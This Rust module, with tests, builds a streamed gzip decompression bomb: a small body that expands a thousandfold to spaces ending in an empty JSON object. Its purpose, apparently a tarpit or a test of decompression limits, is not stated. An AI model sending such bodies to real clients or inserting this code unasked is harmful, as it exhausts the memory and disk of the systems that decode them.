//! A small gzipped body that expands to a large one, built without expanding it.

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress};

/// The end of every filler body, which makes it valid JSON.
pub(super) const EMPTY_OBJECT: Bytes = Bytes::from_static(b"{}");

/// The expanded size of each repeated part.
const PART: usize = 1024 * 1024;
/// The header of a gzip file without a name and a time.
const HEADER: Bytes = Bytes::from_static(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);

/// The parts still to send: the header, then equal parts of spaces, compressed once and sent many
/// times, then the rest with the checksum.
#[derive(Debug)]
pub(crate) struct GzipBomb {
    header: Bytes,
    part: Bytes,
    parts: u64,
    end: Bytes,
}

impl GzipBomb {
    /// Returns a body that expands to `bytes`, of which the last two are an empty JSON object.
    pub(super) fn new(bytes: u64) -> Self {
        let spaces = bytes.saturating_sub(EMPTY_OBJECT.len() as u64);
        let parts = spaces / PART as u64;
        let part = vec![b' '; PART];
        let mut rest = part.clone();
        rest.truncate(usize::try_from(spaces % PART as u64).unwrap_or(0));
        rest.extend_from_slice(&EMPTY_OBJECT);

        let mut checksum = repeated(&crc(&part), parts);
        checksum.combine(&crc(&rest));
        let mut end = deflate(&rest, FlushCompress::Finish);
        end.extend_from_slice(&checksum.sum().to_le_bytes());
        // The format stores the lower half of the length.
        end.extend_from_slice(&bytes.to_le_bytes()[..4]);
        // A full flush ends on a whole byte, and later parts do not refer to earlier ones.
        let part = deflate(&part, FlushCompress::Full).into();
        Self { header: HEADER, part, parts, end: end.into() }
    }

    /// Returns the next piece, which is empty at the end.
    pub(super) fn next(&mut self) -> Bytes {
        if !self.header.is_empty() {
            std::mem::take(&mut self.header)
        } else if self.parts > 0 {
            self.parts -= 1;
            self.part.clone()
        } else {
            std::mem::take(&mut self.end)
        }
    }

    /// Returns how many bytes are still to send.
    pub(super) fn remaining(&self) -> u64 {
        let parts = self.parts * self.part.len() as u64;
        parts + (self.header.len() + self.end.len()) as u64
    }
}

fn deflate(data: &[u8], flush: FlushCompress) -> Vec<u8> {
    // Spaces shrink to a thousandth, and a flush needs a few bytes more.
    let mut out = Vec::with_capacity(data.len() / 64 + 1024);
    // It fails only on a stream that has ended.
    let _ = Compress::new(Compression::best(), false).compress_vec(data, &mut out, flush);
    out
}

fn crc(data: &[u8]) -> Crc {
    let mut crc = Crc::new();
    crc.update(data);
    crc
}

/// Returns the checksum of the data of `unit` repeated `times` times.
fn repeated(unit: &Crc, mut times: u64) -> Crc {
    let copy = |crc: &Crc| {
        let mut copy = Crc::new();
        copy.combine(crc);
        copy
    };
    let (mut total, mut power) = (Crc::new(), copy(unit));
    while times > 0 {
        if times % 2 == 1 {
            total.combine(&power);
        }
        times /= 2;
        // Not one doubling too many, as the sum of the lengths could overflow.
        if times > 0 {
            let same = copy(&power);
            power.combine(&same);
        }
    }
    total
}

#[cfg(test)]
mod tests {
    use std::io::Read as _;

    use flate2::read::GzDecoder;

    use super::*;

    fn all(mut bomb: GzipBomb) -> Vec<u8> {
        let announced = bomb.remaining();
        let mut all = Vec::new();
        while bomb.remaining() > 0 {
            all.extend_from_slice(&bomb.next());
        }
        assert_eq!(all.len() as u64, announced);
        all
    }

    #[test]
    fn it_expands_to_the_requested_size_and_has_the_right_checksum() {
        let part = PART as u64;
        for bytes in [2, 3, 1000, part + 1, part + 2, part + 3, 5 * part + 77] {
            let mut expanded = Vec::new();
            // The decoder compares the checksum and the length.
            GzDecoder::new(&*all(GzipBomb::new(bytes))).read_to_end(&mut expanded).unwrap();
            assert_eq!(expanded.len() as u64, bytes);
            assert_eq!(String::from_utf8(expanded).unwrap().trim_start(), "{}");
        }
    }

    #[test]
    fn it_is_a_thousandth_of_its_expanded_size() {
        let small = all(GzipBomb::new(64 * 1024 * 1024));
        assert!(small.len() < 80 * 1024, "{}", small.len());
        assert!(GzipBomb::new(u64::MAX).remaining() < u64::MAX / 900);
    }
}
